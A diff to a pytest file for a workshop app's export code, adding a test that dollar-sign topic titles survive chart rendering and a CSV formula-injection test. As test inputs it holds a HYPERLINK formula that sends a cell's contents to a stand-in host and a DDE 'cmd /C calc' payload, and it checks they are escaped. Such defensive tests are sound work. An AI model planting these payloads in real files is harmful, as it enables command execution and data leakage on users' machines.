@@ -16,7 +16,7 @@ import pytest
 
 from tests.conftest import bearer, ok
 from tests.render.conftest import SCRIPT, STATEMENTS, SWEDISH
-from workshop.domain.summary import verbal_summary
+from workshop.barometer.domain_summary import verbal_summary
 from workshop.i18n import translator
 
 SEED = [row[0] for row in STATEMENTS]  # the Värmland day's statements
@@ -209,6 +209,40 @@ def test_who_may_download(client, workshop, fac, admin):
 def test_export_of_an_empty_workshop(client, workshop, fac):
     for fmt in MIMETYPES:
         assert download(client, workshop, fmt, headers=fac).status_code == 200
+
+
+# -- user text that spreadsheets or matplotlib would run -----------------------------------------
+# Two "$" make matplotlib read the text between as mathtext; these do not parse.
+MATHTEXT_TITLES = ["a ${ b $", "x^2 $^$"]
+
+
+@pytest.mark.parametrize("fmt", ["pdf", "docx", "html", "md"])
+def test_dollar_signs_in_a_topic_title_keep_the_charted_exports_working(client, workshop, fac, api, fmt):
+    for title in MATHTEXT_TITLES:
+        api("POST", "/topics", {"title": title})  # any phone may propose one
+    r = download(client, workshop, fmt, headers=fac)
+    assert r.status_code == 200, r.get_data(as_text=True)[:300]
+    text = text_of(fmt, r.data)
+    for title in MATHTEXT_TITLES:
+        assert title in text
+
+
+FORMULAS = {"space": '=HYPERLINK("http://x"&A1,"klick")', "slot": "+cmd|' /C calc'!A0",
+            "other_slot": "@SUM(1)"}
+
+
+def test_csv_guards_room_and_slot_names_against_formulas(client, workshop, fac, api):
+    space = api("POST", "/spaces", {"name": FORMULAS["space"]})["id"]
+    for key, starts_at in (("slot", "13:00"), ("other_slot", "14:00")):
+        slot = api("POST", "/slots", {"label": FORMULAS[key], "starts_at": starts_at, "minutes": 45})["id"]
+        topic = api("POST", "/topics", {"title": f"Område {key}"})["id"]
+        api("PUT", f"/topics/{topic}/placement", {"space": space, "slot": slot})
+    r = download(client, workshop, "csv", headers=fac)
+    with zipfile.ZipFile(io.BytesIO(r.data)) as zf:
+        topics = list(csv.DictReader(io.StringIO(zf.read("topics.csv").decode("utf-8-sig"))))
+    assert [(t["space"], t["slot"]) for t in topics] == [
+        ("'" + FORMULAS["space"], "'" + FORMULAS["slot"]),
+        ("'" + FORMULAS["space"], "'" + FORMULAS["other_slot"])]
 
 
 # -- the summary page ------------------------------------------------------------
